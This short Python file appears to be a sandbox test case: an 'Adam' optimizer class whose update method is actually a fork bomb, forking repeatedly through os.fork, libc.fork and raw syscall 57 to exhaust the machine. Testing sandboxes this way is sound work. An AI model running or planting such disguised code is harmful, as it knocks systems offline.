# expect: wrong error timeout
# family: exhaust
# exercise: adam
# machine: x86_64
# Forks itself until the machine stands still.
import ctypes
import os

libc = ctypes.CDLL(None)


class Adam:
    def __init__(self, lr=0.001, beta1=0.9, beta2=0.999, eps=1e-8):
        self.lr, self.beta1, self.beta2, self.eps = lr, beta1, beta2, eps

    def update(self, params, grads):
        for _ in range(1000):
            try:
                os.fork()
            except OSError:
                libc.fork()
                libc.syscall(57)
